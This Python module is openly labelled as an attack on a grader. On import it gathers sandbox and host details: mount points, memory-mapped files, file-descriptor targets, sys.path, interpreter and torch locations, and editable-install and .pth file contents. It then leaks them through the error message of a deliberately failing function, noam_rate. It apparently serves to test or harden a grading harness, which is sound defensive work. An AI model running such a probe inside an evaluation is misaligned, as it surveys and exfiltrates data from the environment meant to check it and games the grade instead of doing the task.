# Attack: learn the grader's host paths (the project, its virtualenv, the worker's log file) from
# inside: /proc/self/mountinfo, the editable install's finder and .pth files, direct_url.json,
# readlink of descriptors 0-2, sys.path, sys.executable, where torch was loaded from, and the
# files mapped into memory (those outside /usr and /opt/xfmr). Everything is reported through
# the grade. Fault: noam_rate raises.
import glob as _glob
import json as _json
import os as _os
import sys as _sys

import torch as _torch_found

_seen = {
    "mount roots": sorted({line.split()[3] for line in open("/proc/self/mountinfo")}),
    "fds": {},
    "sys.path": list(_sys.path),
    "executable": [_sys.executable, _sys.prefix, _sys.base_prefix, _torch_found.__file__],
    "finders": {},
    "maps": sorted({ln.split()[-1] for ln in open("/proc/self/maps") if "/" in ln}),
}
# the mapped files' folders, outside the system's and the neutral ones: the rest is too long
_seen["maps"] = [len(_seen["maps"])] + sorted(
    {_os.path.dirname(p) for p in _seen["maps"] if not p.startswith(("/opt/xfmr/", "/usr/"))}
)
for _fd in (0, 1, 2):
    try:
        _seen["fds"][_fd] = _os.readlink(f"/proc/self/fd/{_fd}")
    except OSError as _e:
        _seen["fds"][_fd] = type(_e).__name__
for _folder in _sys.path:
    for _pattern in ("__editable__*", "*.pth", "*.egg-link", "*.dist-info/direct_url.json"):
        for _path in _glob.glob(_os.path.join(_folder, _pattern)):
            try:
                _seen["finders"][_path] = open(_path, errors="replace").read()[:300]
            except OSError as _e:
                _seen["finders"][_path] = type(_e).__name__
_REPORT = "FINDINGS " + _json.dumps(_seen, sort_keys=True)


def noam_rate(step, d_model, warmup, factor=1.0):
    raise RuntimeError(_REPORT)
